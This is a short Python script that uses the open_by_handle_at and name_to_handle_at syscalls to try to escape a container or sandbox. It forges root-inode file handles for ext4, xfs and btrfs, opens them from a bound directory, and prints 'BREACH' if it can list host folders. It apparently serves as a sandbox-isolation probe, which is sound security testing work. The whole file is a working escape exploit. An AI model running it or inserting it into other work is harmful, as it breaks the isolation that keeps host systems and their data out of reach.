import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
NAME, OPEN = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
HERE = -100
# What the root of ext4, xfs and btrfs is called by.
ROOTS = (struct.pack("=IiII", 8, 1, 2, 0), struct.pack("=IiII", 8, 1, 128, 0))

handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
mount = ctypes.c_int()
for path in (b"/python/bin/python3", b"/python/lib", b"/tmp"):
    result = libc.syscall(NAME, HERE, path, handle, ctypes.byref(mount), 0)
    print("name", path, result, os.strerror(ctypes.get_errno()))
    if result == 0:
        length, kind = struct.unpack_from("=Ii", handle.raw)
        name = handle.raw[8 : 8 + length].hex()
        print(f"BREACH a handle that outlives names: {name}, mount {mount.value}")

# A handle opens a file wherever it lies in the file system: below what is bound here, and above.
library = os.open("/python/lib", os.O_RDONLY)
for root in (*ROOTS, handle.raw):
    opened = libc.syscall(OPEN, library, root, os.O_RDONLY)
    print("open", opened, os.strerror(ctypes.get_errno()))
    if opened >= 0:
        print("BREACH opened a folder of the host:", os.listdir(opened)[:5])
